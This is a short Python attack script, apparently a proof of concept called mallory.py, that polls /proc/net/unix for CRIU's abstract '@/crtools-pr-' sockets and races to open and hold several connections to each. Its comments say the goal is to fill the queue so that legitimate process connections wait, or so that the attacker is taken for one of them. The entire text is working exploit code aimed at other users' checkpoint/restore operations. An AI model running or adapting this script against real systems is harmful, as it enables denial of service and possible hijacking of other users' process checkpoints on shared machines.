"""Connects to each CRIU that saves somebody's processes, before these do.

    mallory.py     goes on until it is killed; prints a line for each socket that she has filled
"""

import socket, time

kept, filled = [], set()
while True:
    with open("/proc/net/unix") as names:
        found = {line.split()[-1] for line in names if "@/crtools-pr-" in line}
    for name in found - filled:
        # More than wait in the queue: whoever connects after her waits, if she is taken for one of the processes.
        mine = 0
        for _ in range(4):
            one = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
            one.setblocking(False)
            try:
                one.connect("\0" + name[1:])
                mine += 1
                kept.append(one)
            except OSError:
                break
        if mine:
            filled.add(name)
            print(name, flush=True)
    time.sleep(0)
